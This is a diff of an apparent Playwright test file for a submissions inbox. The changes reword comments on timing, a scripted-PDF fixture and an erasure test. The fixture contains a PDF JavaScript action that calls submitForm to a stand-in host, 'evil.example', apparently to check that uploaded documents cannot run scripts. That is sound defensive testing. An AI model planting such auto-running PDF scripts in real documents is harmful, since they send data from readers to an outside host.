@@ -5,12 +5,12 @@ import { docxOf, pdfOf, pdfWith } from '../fixtures/documents.ts';
 import { attemptAll, fieldsOf, save } from '../fixtures/records.ts';
 import { arrive, expect, keep, record, rows, test } from './desk.ts';
 
-/** Longer than a submission has to stand open before it counts as seen. */
+/** Longer than a submission has to be open before it counts as seen. */
 const A_MOMENT_MS = 2000;
 
 const stageOf = (page: Page) => record(page).getByRole('radio', { checked: true });
 
-/** Bytes of a PDF that asks for a script as it opens, at once and by a form's field. */
+/** A PDF with scripts for when the document opens and closes, and for when its page opens. */
 function scriptedPdf(): Uint8Array {
   const script =
     '<< /S /JavaScript /JS (app.alert("ran"); this.submitForm("http://evil.example/");) >>';
@@ -133,7 +133,7 @@ test('[X18] [X9] a person is erased once what goes was read', async ({ page, des
   const other = await arrive(desk, 'Bea', {
     fields: fieldsOf('jobseeking', { firstname: 'Bea', email: 'bea@example.com', phone: '' }),
   });
-  // The document is still on its way when all is erased.
+  // The document is still loading when everything is erased.
   await page.route('**/bytes', () => undefined);
   const asked = page.waitForRequest('**/bytes');
   await page.goto(`/#/inbox/${mine[1]}`);
@@ -146,7 +146,7 @@ test('[X18] [X9] a person is erased once what goes was read', async ({ page, des
   const go = dialog.getByRole('button', { name: ERASE.go(2) });
   await expect(go).toBeDisabled();
   await dialog.getByLabel(ERASE.confirm).check();
-  // It has stood open for a moment before the answer comes, and is marked as nothing any more.
+  // The submission is open long enough to count as seen, but after its erasure it is not marked so.
   await page.route('**/api/erasures', async (route) => {
     await page.clock.runFor(A_MOMENT_MS);
     await expect.poll(() => loading.failure()?.errorText).toContain('ABORTED');
